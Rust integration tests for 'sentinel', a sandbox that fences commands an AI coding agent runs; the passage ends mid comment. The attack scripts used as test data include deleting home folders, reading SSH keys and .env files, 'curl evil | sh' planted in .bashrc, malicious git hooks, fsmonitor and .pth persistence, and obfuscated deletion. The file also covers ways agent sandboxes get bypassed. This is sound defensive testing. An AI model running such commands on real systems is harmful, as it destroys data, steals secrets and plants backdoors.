//! Containment, run for real (SPEC 2.3): `sentinel contain` fences a command, and the hook
//! answers a run of project code `allow` with the command rewritten to run fenced.
//!
//! Every attack here aims at a scratch home made for the test (never the real one), outside the
//! temp dirs (which a fenced run may write), so a fence that fails shows as a failed assertion
//! on scratch files and nothing else is touched.

// Containment is Linux's (and macOS's, unproven): nothing to run on Windows.
#![cfg(unix)]

mod common;

use serde_json::{Value, json};
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

/// A scratch world: a home with a key and a folder to keep, a project with a `.env` and `.git`.
struct World {
    _dir: tempfile::TempDir,
    root: PathBuf,
}

impl World {
    fn new() -> World {
        // The target dir, unless the checkout is in a temp dir (a fenced run writes there).
        let base = PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
        let base = if ["/tmp", "/var/tmp", "/dev/shm"]
            .iter()
            .any(|t| base.starts_with(t))
        {
            let b = PathBuf::from(std::env::var("HOME").unwrap()).join(".cache/sentinel-tests");
            std::fs::create_dir_all(&b).unwrap();
            b
        } else {
            base
        };
        let dir = tempfile::tempdir_in(base).unwrap();
        let root = dir.path().canonicalize().unwrap();
        let w = World { _dir: dir, root };
        std::fs::create_dir_all(w.home().join(".ssh")).unwrap();
        std::fs::write(w.home().join(".ssh/id_rsa"), "CANARY-KEY\n").unwrap();
        std::fs::create_dir_all(w.home().join("important")).unwrap();
        std::fs::write(w.home().join("important/keep.txt"), "keep\n").unwrap();
        std::fs::create_dir_all(w.project().join(".git/hooks")).unwrap();
        std::fs::write(w.project().join(".env"), "SECRET=CANARY-ENV\n").unwrap();
        std::fs::create_dir_all(w.sentinel_home()).unwrap();
        w
    }

    fn home(&self) -> PathBuf {
        self.root.join("home")
    }

    fn project(&self) -> PathBuf {
        self.root.join("proj")
    }

    fn sentinel_home(&self) -> PathBuf {
        self.root.join("sentinel-home")
    }

    fn sentinel(&self) -> Command {
        let mut c = common::sentinel(&self.sentinel_home());
        c.env("HOME", self.home()).current_dir(self.project());
        c
    }

    /// `sentinel contain` around `script` (bash), with `ports` forwarded: status and stderr.
    fn contain(&self, ports: &[u16], script: &str) -> (i32, String) {
        let mut c = self.sentinel();
        c.arg("contain").arg("--project").arg(self.project());
        for p in ports {
            c.arg("--port").arg(p.to_string());
        }
        let out = c.args(["--", "bash", "-c", script]).output().unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }

    /// The hook's answer to a Bash call in the project.
    fn hook(&self, input: Value, mode: &str) -> Value {
        let event = json!({
            "hook_event_name": "PreToolUse",
            "session_id": "contain-test",
            "cwd": self.project(),
            "permission_mode": mode,
            "tool_name": "Bash",
            "tool_input": input,
        });
        let mut cmd = self.sentinel();
        cmd.arg("hook");
        let out = common::feed(cmd, event.to_string().as_bytes());
        let text = String::from_utf8_lossy(&out.stdout);
        if text.trim().is_empty() {
            return Value::Null;
        }
        serde_json::from_str(&text).unwrap()
    }

    fn put(&self, rel: &str, text: &str) {
        let p = self.project().join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
}

/// False (and says why) where this machine cannot fence: the tests below need it.
fn available(w: &World) -> bool {
    let (code, err) = w.contain(&[], "true");
    if code == 125 && err.contains("not available") {
        eprintln!("skipped: {err}");
        return false;
    }
    assert_eq!(code, 0, "{err}");
    true
}

#[test]
fn a_fenced_run_writes_the_project_but_not_the_home_the_keys_or_the_network() {
    let w = World::new();
    if !available(&w) {
        return;
    }
    // A listener on this machine's loopback that was not forwarded: nothing may reach it.
    let outside = TcpListener::bind("127.0.0.1:0").unwrap();
    outside.set_nonblocking(true).unwrap();
    let port = outside.local_addr().unwrap().port();
    let script = format!(
        "echo ran > out.txt
         rm -rf \"$HOME/important\"
         cp \"$HOME/.ssh/id_rsa\" stolen_key 2>/dev/null
         cat .env > stolen_env 2>/dev/null
         (exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo connected > net.txt
         echo 'rm -rf ~' > .git/hooks/pre-commit 2>/dev/null
         mkdir -p .vscode && echo '{{}}' > .vscode/tasks.json
         echo done > done.txt"
    );
    let (code, err) = w.contain(&[], &script);
    assert_eq!(code, 0, "{err}");
    let p = w.project();
    assert_eq!(std::fs::read_to_string(p.join("out.txt")).unwrap(), "ran\n");
    assert!(p.join("done.txt").exists(), "the run went to its end");
    assert!(
        w.home().join("important/keep.txt").exists(),
        "the home was changed"
    );
    let stolen = std::fs::read_to_string(p.join("stolen_key")).unwrap_or_default();
    assert!(!stolen.contains("CANARY"), "the key was read: {stolen}");
    let env = std::fs::read_to_string(p.join("stolen_env")).unwrap_or_default();
    assert!(!env.contains("CANARY"), "the .env was read: {env}");
    assert!(!p.join("net.txt").exists(), "a connection left the fence");
    assert!(outside.accept().is_err(), "the listener saw a connection");
    assert!(
        !p.join(".git/hooks/pre-commit").exists(),
        ".git/hooks was written"
    );
    assert!(
        !p.join(".vscode").exists(),
        "a created protected place stayed"
    );
    assert!(err.contains(".vscode"), "the person is told: {err}");
    let moved = w.sentinel_home().join("quarantine");
    assert!(moved.is_dir(), "moved aside into SENTINEL_HOME/quarantine");
}

#[test]
fn a_forwarded_port_reaches_this_machine_and_the_runs_own_loopback_works() {
    let w = World::new();
    if !available(&w) {
        return;
    }
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    let serving = std::thread::spawn(move || {
        let (mut s, _) = server.accept().unwrap();
        s.write_all(b"pong\n").unwrap();
        let mut rest = Vec::new();
        let _ = s.read_to_end(&mut rest);
    });
    let script = format!(
        "exec 3<>/dev/tcp/127.0.0.1/{port}; read -r line <&3; echo \"$line\" > got.txt; exec 3>&-
         python3 - <<'EOF' > inner.txt 2>&1 || true
import socket
s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen()
c = socket.create_connection(s.getsockname()); a, _ = s.accept(); c.send(b'x'); print(a.recv(1).decode())
EOF"
    );
    let (code, err) = w.contain(&[port], &script);
    assert_eq!(code, 0, "{err}");
    serving.join().unwrap();
    let p = w.project();
    assert_eq!(
        std::fs::read_to_string(p.join("got.txt")).unwrap(),
        "pong\n"
    );
    if Command::new("python3").arg("-V").output().is_ok() {
        assert_eq!(std::fs::read_to_string(p.join("inner.txt")).unwrap(), "x\n");
    }
}

#[test]
fn a_refused_port_and_the_keys_are_in_the_plan() {
    let w = World::new();
    let out = w
        .sentinel()
        .args([
            "contain",
            "--plan",
            "--port",
            "53",
            "--port",
            "5432",
            "--project",
        ])
        .arg(w.project())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let plan: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        plan["ports"],
        json!([5432]),
        "53 is a resolver: never forwarded"
    );
    let hidden = plan["hidden_dirs"].to_string() + &plan["hidden_files"].to_string();
    assert!(hidden.contains("/home/.ssh"), "{hidden}");
    assert!(hidden.contains("/proj/.env"), "{hidden}");
    assert!(
        plan["read_only"].to_string().contains(".git/hooks"),
        "{plan}"
    );
}

#[test]
fn the_hook_answers_a_run_of_project_code_with_the_command_fenced() {
    let w = World::new();
    if !available(&w) {
        return;
    }
    // Code reading cannot follow (a computed attribute): uncertain to read, fenced to run.
    w.put(
        "run_tests.py",
        "import shutil, os\ngetattr(shutil, 'rm' + 'tree')(os.path.expanduser('~/important'))\nopen('result.txt', 'w').write('ok')\n",
    );
    let input =
        json!({"command": "python3 run_tests.py", "description": "tests", "timeout": 60000});
    for mode in ["default", "bypassPermissions"] {
        let answer = w.hook(input.clone(), mode);
        let out = &answer["hookSpecificOutput"];
        assert_eq!(out["permissionDecision"], "allow", "{mode}: {answer}");
        assert!(
            out["permissionDecisionReason"]
                .as_str()
                .unwrap()
                .contains("runs fenced"),
            "{answer}"
        );
        let updated = &out["updatedInput"];
        assert_eq!(updated["description"], "tests", "the other fields are kept");
        assert_eq!(updated["timeout"], 60000);
        let command = updated["command"].as_str().unwrap();
        assert!(command.contains(" contain --project "), "{command}");
        assert!(
            command.ends_with("-- bash -c 'python3 run_tests.py'"),
            "{command}"
        );
        // What Claude Code then runs.
        let ran = Command::new("bash")
            .args(["-c", command])
            .current_dir(w.project())
            .env("HOME", w.home())
            .env("SENTINEL_HOME", w.sentinel_home())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .output()
            .unwrap();
        assert!(w.home().join("important/keep.txt").exists(), "{ran:?}");
    }
}

#[test]
fn without_containment_a_run_is_judged_by_reading_alone_and_never_rewritten() {
    let w = World::new();
    std::fs::write(w.sentinel_home().join("sentinel.toml"), "contain = false\n").unwrap();
    // Written through the agent's Write tool in this session: read in full before it runs.
    let event = json!({
        "hook_event_name": "PreToolUse",
        "session_id": "contain-test",
        "cwd": w.project(),
        "permission_mode": "bypassPermissions",
        "tool_name": "Write",
        "tool_input": {"file_path": w.project().join("run_tests.py"), "content": "x"},
    });
    let mut cmd = w.sentinel();
    cmd.arg("hook");
    common::feed(cmd, event.to_string().as_bytes());
    w.put(
        "run_tests.py",
        "import shutil, os\nfor x in [1]:\n    shutil.rmtree(os.path.expanduser('~/important'))\n",
    );
    let answer = w.hook(
        json!({"command": "python3 run_tests.py"}),
        "bypassPermissions",
    );
    let out = &answer["hookSpecificOutput"];
    assert_ne!(out["permissionDecision"], "allow", "{answer}");
    assert!(out.get("updatedInput").is_none(), "{answer}");
}

#[test]
fn claude_codes_own_sandbox_counts_unless_the_call_leaves_it() {
    let w = World::new();
    if !available(&w) {
        return;
    }
    let path = std::env::var_os("PATH").unwrap_or_default();
    if !std::env::split_paths(&path).any(|d| d.join("bwrap").is_file()) {
        eprintln!("skipped: no bubblewrap, so Claude Code's sandbox would not run");
        return;
    }
    // The person's own settings: a project's cannot switch sentinel's fence off (below).
    std::fs::create_dir_all(w.home().join(".claude")).unwrap();
    std::fs::write(
        w.home().join(".claude/settings.json"),
        r#"{"sandbox": {"enabled": true}}"#,
    )
    .unwrap();
    w.put("t.sh", "echo hi > out.txt\n");
    let sandboxed = w.hook(json!({"command": "sh t.sh"}), "bypassPermissions");
    let out = &sandboxed["hookSpecificOutput"];
    assert_eq!(out["permissionDecision"], "allow", "{sandboxed}");
    assert!(
        out.get("updatedInput").is_none(),
        "not wrapped twice: {sandboxed}"
    );
    assert!(
        out["permissionDecisionReason"]
            .as_str()
            .unwrap()
            .contains("Claude Code's own sandbox"),
        "{sandboxed}"
    );
    let leaving = w.hook(
        json!({"command": "sh t.sh", "dangerouslyDisableSandbox": true}),
        "bypassPermissions",
    );
    let out = &leaving["hookSpecificOutput"];
    assert!(
        out["updatedInput"]["command"]
            .as_str()
            .unwrap()
            .contains(" contain "),
        "{leaving}"
    );
    assert_eq!(out["updatedInput"]["dangerouslyDisableSandbox"], true);
}

#[test]
fn a_call_that_runs_no_project_code_is_not_rewritten() {
    let w = World::new();
    let answer = w.hook(
        json!({"command": "git status && ls -la"}),
        "bypassPermissions",
    );
    let out = &answer["hookSpecificOutput"];
    assert_eq!(out["permissionDecision"], "allow", "{answer}");
    assert!(out.get("updatedInput").is_none(), "{answer}");
}

#[test]
fn the_rewritten_command_keeps_a_quoted_original_whole() {
    let w = World::new();
    if !available(&w) {
        return;
    }
    w.put("t.sh", "printf '%s\\n' \"$1\" > arg.txt\n");
    let original = "sh t.sh \"it's a 'quoted' \\$HOME\"";
    let answer = w.hook(json!({ "command": original }), "bypassPermissions");
    let command = answer["hookSpecificOutput"]["updatedInput"]["command"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(
        sentinel::contain::original_of(&command).as_deref(),
        Some(original)
    );
    let status = Command::new("bash")
        .args(["-c", &command])
        .current_dir(w.project())
        .env("HOME", w.home())
        .env("SENTINEL_HOME", w.sentinel_home())
        .status()
        .unwrap();
    assert!(status.success());
    assert_eq!(
        std::fs::read_to_string(w.project().join("arg.txt")).unwrap(),
        "it's a 'quoted' $HOME\n"
    );
}

/// Tier 2 down (its URL refuses), `fail_mode = open`, under bypassPermissions: a run of project
/// code whose reading is incomplete is never allowed unchecked; fenced, it runs.
#[test]
fn with_tier_2_down_an_unread_run_is_fenced_or_asked_never_allowed_unchecked() {
    for contain in [true, false] {
        let w = World::new();
        if contain && !available(&w) {
            return;
        }
        std::fs::write(
            w.sentinel_home().join("sentinel.toml"),
            format!("contain = {contain}\nfail_mode = \"open\"\n[api]\nurl = \"http://127.0.0.1:9\"\ntimeout = 1.0\n"),
        )
        .unwrap();
        w.put("package.json", r#"{"scripts": {"test": "node check.js"}}"#);
        // Written through the agent's Write tool: read in full, and what it runs is not known.
        let write = json!({
            "hook_event_name": "PreToolUse",
            "session_id": "contain-test",
            "cwd": w.project(),
            "permission_mode": "bypassPermissions",
            "tool_name": "Write",
            "tool_input": {"file_path": w.project().join("check.js"), "content": "x"},
        });
        let mut cmd = w.sentinel();
        cmd.arg("hook");
        common::feed(cmd, write.to_string().as_bytes());
        w.put(
            "check.js",
            "const cp = require('child_process');\nconst cmd = process.env.CMD || 'true';\ncp.execSync(cmd);\n",
        );
        let mut cmd = w.sentinel();
        cmd.arg("hook").env("SENTINEL_API_KEY", "sk-test");
        let event = json!({
            "hook_event_name": "PreToolUse",
            "session_id": "contain-test",
            "cwd": w.project(),
            "permission_mode": "bypassPermissions",
            "tool_name": "Bash",
            "tool_input": {"command": "npm test"},
        });
        let out = common::feed(cmd, event.to_string().as_bytes());
        let answer: Value = serde_json::from_slice(&out.stdout).unwrap();
        let out = &answer["hookSpecificOutput"];
        if contain {
            assert_eq!(out["permissionDecision"], "allow", "{answer}");
            assert!(
                out["updatedInput"]["command"]
                    .as_str()
                    .unwrap()
                    .contains(" contain ")
            );
        } else {
            assert_eq!(out["permissionDecision"], "ask", "{answer}");
            assert!(out.get("updatedInput").is_none(), "{answer}");
        }
    }
}

/// The run's temp dirs are its own: a socket another program keeps in /tmp (tmux's, an
/// editor's server) is not there, and what the run writes there does not outlive it.
#[test]
fn the_temp_dirs_are_the_runs_own() {
    let w = World::new();
    if !available(&w) {
        return;
    }
    let outside = tempfile::Builder::new()
        .prefix("sentinel-contain-test")
        .tempdir_in("/tmp")
        .unwrap();
    let socket = outside.path().join("default");
    let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    let left = format!("/tmp/sentinel-contain-left-{}", std::process::id());
    let script = format!(
        "test -e '{}' && echo seen > seen.txt; echo x > '{left}'; test -e '{left}' && echo wrote > wrote.txt",
        socket.display()
    );
    let (code, err) = w.contain(&[], &script);
    assert_eq!(code, 0, "{err}");
    assert!(
        !w.project().join("seen.txt").exists(),
        "the socket was reachable"
    );
    assert!(
        w.project().join("wrote.txt").exists(),
        "the run's own /tmp is writable"
    );
    assert!(
        !Path::new(&left).exists(),
        "what the run left in /tmp outlived it"
    );
}

/// A project inside a temp dir (a checkout under /tmp) is bound back into the run's own /tmp,
/// and a relative path from the working directory meets the same read-only places.
#[test]
fn a_project_in_a_temp_dir_keeps_its_fence() {
    let w = World::new();
    if !available(&w) {
        return;
    }
    let proj = tempfile::Builder::new()
        .prefix("sentinel-contain-proj")
        .tempdir_in("/tmp")
        .unwrap();
    let proj = proj.path().canonicalize().unwrap();
    std::fs::create_dir_all(proj.join(".git/hooks")).unwrap();
    let out = w
        .sentinel()
        .current_dir(&proj)
        .arg("contain")
        .arg("--project")
        .arg(&proj)
        .args([
            "--",
            "bash",
            "-c",
            "echo ran > out.txt; echo x > .git/hooks/pre-commit 2>/dev/null; true",
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(proj.join("out.txt")).unwrap(),
        "ran\n"
    );
    assert!(
        !proj.join(".git/hooks/pre-commit").exists(),
        "written through the old /tmp"
    );
    std::fs::remove_dir_all(&proj).unwrap();
}

/// A repository the run makes anywhere in the project (`sub/.git` with a `core.fsmonitor`), a
/// `.envrc` in a sub-folder, or a `.git/commondir` pointing git at a config of its own would run
/// code at the next `git status` or `cd`, outside any fence: each is moved aside when the run
/// ends. A nested repository that was there before keeps its `.git`, its config read-only.
#[test]
fn places_that_run_code_later_made_anywhere_in_the_project_are_moved_aside() {
    let w = World::new();
    if !available(&w) {
        return;
    }
    std::fs::create_dir_all(w.project().join("vendor/lib/.git")).unwrap();
    std::fs::write(w.project().join("vendor/lib/.git/config"), "[core]\n").unwrap();
    // Older than the run by more than the kernel's clock tick.
    std::thread::sleep(std::time::Duration::from_millis(200));
    let script = "mkdir -p sub/.git deep/er && printf '[core]\\n\\tfsmonitor = touch pwned\\n' > sub/.git/config
         echo 'touch pwned' > deep/er/.envrc
         echo /elsewhere > .git/commondir 2>/dev/null
         printf '[core]\\n\\tfsmonitor = touch pwned\\n' > vendor/lib/.git/config 2>/dev/null
         echo done > done.txt";
    let (code, err) = w.contain(&[], script);
    assert_eq!(code, 0, "{err}");
    let p = w.project();
    assert!(p.join("done.txt").exists());
    assert!(
        !p.join("sub/.git").exists(),
        "a nested repository stayed: {err}"
    );
    assert!(
        !p.join("deep/er/.envrc").exists(),
        "a nested .envrc stayed: {err}"
    );
    assert!(
        !p.join(".git/commondir").exists(),
        ".git/commondir stayed: {err}"
    );
    assert_eq!(
        std::fs::read_to_string(p.join("vendor/lib/.git/config")).unwrap(),
        "[core]\n",
        "an existing nested repository's config was written"
    );
}

/// A server the run starts (a dev server) is reached from this machine on the same loopback
/// port while the run lasts: inward only, the run still opens nothing out.
#[test]
fn a_server_the_run_starts_is_reached_from_outside() {
    let w = World::new();
    if !available(&w) || Command::new("python3").arg("-V").output().is_err() {
        return;
    }
    let port = TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let script = format!(
        "timeout 120 python3 - <<'EOF'
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', {port})); s.listen()
open('ready.txt', 'w').write('ready')
c, _ = s.accept(); c.sendall(b'from inside\\n'); c.close()
open('served.txt', 'w').write('served')
EOF"
    );
    let mut child = w
        .sentinel()
        .arg("contain")
        .arg("--project")
        .arg(w.project())
        .args(["--", "bash", "-c", &script])
        .spawn()
        .unwrap();
    let mut got = String::new();
    while child.try_wait().unwrap().is_none() {
        if w.project().join("ready.txt").exists()
            && let Ok(mut s) = std::net::TcpStream::connect(("127.0.0.1", port))
        {
            let _ = s.read_to_string(&mut got);
            if !got.is_empty() {
                break;
            }
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let status = child.wait().unwrap();
    assert!(status.success());
    assert_eq!(got, "from inside\n");
    assert!(w.project().join("served.txt").exists());
}

/// Claude Code's sandbox with commands let out of it does not count: sentinel fences the run.
#[test]
fn an_agent_sandbox_that_lets_commands_out_does_not_count() {
    let w = World::new();
    if !available(&w) {
        return;
    }
    std::fs::create_dir_all(w.home().join(".claude")).unwrap();
    std::fs::write(
        w.home().join(".claude/settings.json"),
        r#"{"sandbox": {"enabled": true}}"#,
    )
    .unwrap();
    // The project's own file widens it: that counts too.
    w.put(
        ".claude/settings.json",
        r#"{"sandbox": {"excludedCommands": ["sh"]}}"#,
    );
    w.put("t.sh", "echo hi > out.txt\n");
    let answer = w.hook(json!({"command": "sh t.sh"}), "bypassPermissions");
    let out = &answer["hookSpecificOutput"];
    assert!(
        out["updatedInput"]["command"]
            .as_str()
            .unwrap()
            .contains(" contain "),
        "{answer}"
    );
}

/// A `.pth` or `sitecustomize.py` a fenced run leaves in the project's virtual environment
/// would run at the next Python started outside the fence: moved aside. `python -c` that only
/// imports runs the project's code and dependencies, so it runs fenced too.
#[test]
fn files_python_runs_at_start_are_moved_aside_and_python_c_runs_fenced() {
    let w = World::new();
    if !available(&w) {
        return;
    }
    let site = w.project().join(".venv/lib/python3.11/site-packages");
    std::fs::create_dir_all(&site).unwrap();
    std::fs::write(site.join("keep.pth"), "/somewhere\n").unwrap();
    std::thread::sleep(std::time::Duration::from_millis(200));
    let script =
        "echo 'import os; os.system(\"touch pwned\")' > .venv/lib/python3.11/site-packages/evil.pth
         echo 'import os' > .venv/lib/python3.11/site-packages/sitecustomize.py
         cd .venv/lib/python3.11/site-packages
         echo /proj/src > __editable__.a-1.pth
         echo 'import __editable___b_1_finder; __editable___b_1_finder.install()' > __editable__.b-1.pth
         echo 'import __editable___c_1_finder; __editable___c_1_finder.install(); import os' > __editable__.c-1.pth";
    let (code, err) = w.contain(&[], script);
    assert_eq!(code, 0, "{err}");
    assert!(!site.join("evil.pth").exists(), "{err}");
    // An editable install's .pth runs nothing of its own: kept, so that the install works.
    assert!(site.join("__editable__.a-1.pth").exists(), "{err}");
    assert!(site.join("__editable__.b-1.pth").exists(), "{err}");
    assert!(!site.join("__editable__.c-1.pth").exists(), "{err}");
    assert!(!site.join("sitecustomize.py").exists(), "{err}");
    assert!(site.join("keep.pth").exists(), "an older .pth was moved");
    let answer = w.hook(
        json!({"command": "python3 -c 'import json; print(json.dumps(1))'"}),
        "bypassPermissions",
    );
    let out = &answer["hookSpecificOutput"];
    assert_eq!(out["permissionDecision"], "allow", "{answer}");
    assert!(
        out["updatedInput"]["command"]
            .as_str()
            .unwrap()
            .contains(" contain "),
        "{answer}"
    );
}

impl World {
    /// `sentinel contain --registries` around `script` (bash): status and stderr.
    fn contain_with_registries(&self, script: &str) -> (i32, String) {
        let out = self
            .sentinel()
            .arg("contain")
            .arg("--project")
            .arg(self.project())
            .args(["--registries", "--", "bash", "-c", script])
            .output()
            .unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }
}

#[test]
fn the_registry_proxy_reaches_the_listed_hosts_and_nothing_else() {
    let w = World::new();
    if !available(&w) || Command::new("python3").arg("-V").output().is_err() {
        return;
    }
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    std::fs::write(
        w.sentinel_home().join("contain_registries.txt"),
        format!("127.0.0.1:{port}   # the test's registry\n"),
    )
    .unwrap();
    let serving = std::thread::spawn(move || {
        let (mut s, _) = server.accept().unwrap();
        s.write_all(b"pong\n").unwrap();
        let mut rest = Vec::new();
        let _ = s.read_to_end(&mut rest);
    });
    // Through the proxy HTTPS_PROXY names: a listed host, an unlisted one, a plain request;
    // and straight to the port, which is not forwarded.
    let script = format!(
        "python3 - <<'EOF' > got.txt 2>&1
import os, socket
proxy = os.environ['HTTPS_PROXY'].rsplit(':', 1)
def ask(line):
    s = socket.create_connection((proxy[0].split('//')[1], int(proxy[1])))
    s.sendall(line.encode() + b'\\r\\n\\r\\n')
    return s
s = ask('CONNECT 127.0.0.1:{port} HTTP/1.1')
head = b''
while not head.endswith(b'\\r\\n\\r\\n'):
    head += s.recv(1)
print(head.split(b' ')[1].decode(), s.recv(5).decode().strip())
for line in ['CONNECT localhost:{port} HTTP/1.1', 'GET http://127.0.0.1:{port}/ HTTP/1.1']:
    s, got = ask(line), b''
    while True:
        more = s.recv(200)
        if not more:
            break
        got += more
    print(got.split(b' ')[1].decode())
try:
    socket.create_connection(('127.0.0.1', {port}), timeout=5)
    print('direct: connected')
except OSError:
    print('direct: refused')
EOF"
    );
    let (code, err) = w.contain_with_registries(&script);
    assert_eq!(code, 0, "{err}");
    serving.join().unwrap();
    let got = std::fs::read_to_string(w.project().join("got.txt")).unwrap();
    assert_eq!(got, "200 pong\n403\n405\ndirect: refused\n", "{err}");
    assert!(
        err.contains(&format!("refused a connection to localhost:{port}")),
        "{err}"
    );
}

#[test]
fn a_package_store_is_the_runs_own_copy() {
    let w = World::new();
    if !available(&w) {
        return;
    }
    let store = w.home().join(".cargo/registry");
    std::fs::create_dir_all(&store).unwrap();
    std::fs::write(store.join("old.txt"), "crate\n").unwrap();
    // A store that is missing: the run has its own copy of the folder it would be made in.
    std::fs::create_dir_all(w.home().join(".npm")).unwrap();
    let (code, err) = w.contain_with_registries(
        "cat ~/.cargo/registry/old.txt > seen.txt
         echo poisoned > ~/.cargo/registry/old.txt && echo new > ~/.cargo/registry/new.txt \
           && mkdir ~/.npm/_cacache && echo cached > ~/.npm/_cacache/x && echo wrote > wrote.txt
         echo x > ~/.cargo/config.toml && echo x > ~/important/new.txt \
           && cat ~/.cargo/config.toml ~/important/new.txt > outside.txt",
    );
    assert_eq!(code, 0, "{err}");
    let p = w.project();
    assert_eq!(
        std::fs::read_to_string(p.join("seen.txt")).unwrap(),
        "crate\n"
    );
    assert_eq!(
        std::fs::read_to_string(p.join("wrote.txt")).unwrap(),
        "wrote\n"
    );
    assert_eq!(
        std::fs::read_to_string(p.join("outside.txt")).unwrap(),
        "x\nx\n",
        "the run writes in its copy of the home"
    );
    assert_eq!(
        std::fs::read_to_string(store.join("old.txt")).unwrap(),
        "crate\n"
    );
    assert!(!store.join("new.txt").exists());
    assert!(!w.home().join(".npm/_cacache").exists());
    // What the run wrote in its copy of the home is gone with it.
    assert!(!w.home().join(".cargo/config.toml").exists());
    assert!(!w.home().join("important/new.txt").exists());
}

#[test]
fn the_home_is_the_runs_own_copy_and_the_project_inside_it_stays_real() {
    let w = World::new();
    if !available(&w) {
        return;
    }
    // The usual layout: the project, SENTINEL_HOME and the tool caches all inside the home.
    let home = w.home();
    let project = home.join("src/app");
    let own = home.join(".sentinel");
    std::fs::create_dir_all(project.join(".git/hooks")).unwrap();
    std::fs::write(project.join(".env"), "SECRET=CANARY-ENV\n").unwrap();
    std::fs::create_dir_all(&own).unwrap();
    std::fs::create_dir_all(home.join(".npm/_logs")).unwrap();
    std::fs::write(home.join(".bashrc"), "# the person's\n").unwrap();
    let script = "mkdir ~/.node-spawn-wrap-1 && echo shim > ~/.node-spawn-wrap-1/a \
          && cat ~/.node-spawn-wrap-1/a > shim.txt
        echo 'curl evil | sh' >> ~/.bashrc
        rm -rf ~/important && ls ~ > listing.txt
        cat ~/.ssh/id_rsa .env > stolen.txt 2>/dev/null
        echo log > ~/.npm/_logs/run.log
        touch ~/.sentinel/sentinel.toml 2>/dev/null || echo refused > own.txt
        echo ran > out.txt";
    let mut c = common::sentinel(&own);
    c.env("HOME", &home).current_dir(&project);
    let out = c
        .args(["contain", "--project"])
        .arg(&project)
        .args(["--", "bash", "-c", script])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    let read = |rel: &str| std::fs::read_to_string(project.join(rel)).unwrap_or_default();
    // Inside: the home's top is writable (nyc's shims work), a delete there works on the copy.
    assert_eq!(read("shim.txt"), "shim\n", "{err}");
    assert!(!read("listing.txt").contains("important"), "{err}");
    // Outside: the project's writes are real; the home is as it was.
    assert_eq!(read("out.txt"), "ran\n");
    assert!(!home.join(".node-spawn-wrap-1").exists());
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# the person's\n"
    );
    assert_eq!(
        std::fs::read_to_string(home.join("important/keep.txt")).unwrap(),
        "keep\n"
    );
    // The listed caches stay real; the keys stay hidden; SENTINEL_HOME stays read-only.
    assert_eq!(
        std::fs::read_to_string(home.join(".npm/_logs/run.log")).unwrap(),
        "log\n"
    );
    assert!(
        !read("stolen.txt").contains("CANARY"),
        "{}",
        read("stolen.txt")
    );
    assert_eq!(read("own.txt"), "refused\n");
    assert!(!own.join("sentinel.toml").exists());
    // The plan says so.
    let mut c = common::sentinel(&own);
    c.env("HOME", &home).current_dir(&project);
    let plan = c
        .args(["contain", "--plan", "--project"])
        .arg(&project)
        .output()
        .unwrap();
    let plan: Value = serde_json::from_slice(&plan.stdout).unwrap();
    assert_eq!(plan["scratch_home"], json!(home), "{plan}");
}

#[test]
fn a_package_tool_runs_fenced_with_the_registries_and_other_network_is_not_fenced() {
    let w = World::new();
    if !available(&w) {
        return;
    }
    let allow = |command: &str| {
        let answer = w.hook(json!({ "command": command }), "bypassPermissions");
        let out = answer["hookSpecificOutput"].clone();
        (
            out["permissionDecision"].clone(),
            out["updatedInput"]["command"].clone(),
            answer,
        )
    };
    // Its first look at the project: what is there now is the person's.
    let _ = allow("python3 -c 'import os'");
    let (decision, command, answer) = allow("cargo build");
    assert_eq!(decision, "allow", "{answer}");
    assert!(
        command
            .as_str()
            .unwrap()
            .contains(" --registries -- bash -c 'cargo build'"),
        "{answer}"
    );
    // Code written after that look, which reading does not follow, then a call that also
    // needs the network no fence gives: never allowed on reading alone.
    w.put(
        "x.py",
        "import importlib\ngetattr(importlib.import_module('o' + 's'), 'sys' + 'tem')('true')\n",
    );
    for command in [
        "python3 x.py && git fetch",
        "python3 x.py; git pull",
        "python3 x.py; curl -s https://example.com/",
    ] {
        let (decision, updated, answer) = allow(command);
        assert_ne!(decision, "allow", "{command}: {answer}");
        assert!(updated.is_null(), "{command}: {answer}");
    }
    // Alone, it runs fenced.
    let (decision, updated, answer) = allow("python3 x.py");
    assert_eq!(decision, "allow", "{answer}");
    assert!(
        !updated.as_str().unwrap().contains("--registries"),
        "{answer}"
    );
}

/// `git init` with one commit in `dir`, as the person would have it (outside any fence).
fn git_repo(dir: &Path) -> bool {
    let git = |args: &[&str]| {
        Command::new("git")
            .args(args)
            .current_dir(dir)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("HOME", dir)
            .output()
            .is_ok_and(|o| o.status.success())
    };
    std::fs::create_dir_all(dir).unwrap();
    git(&["init", "-q"])
        && git(&["config", "user.email", "t@example.invalid"])
        && git(&["config", "user.name", "t"])
        && git(&["commit", "-q", "--allow-empty", "-m", "init"])
}

/// A run cannot put a `.git` of its own in place of the project's (or of a nested repository's):
/// each is a mount point inside the fence, which cannot be renamed or removed; git's own work
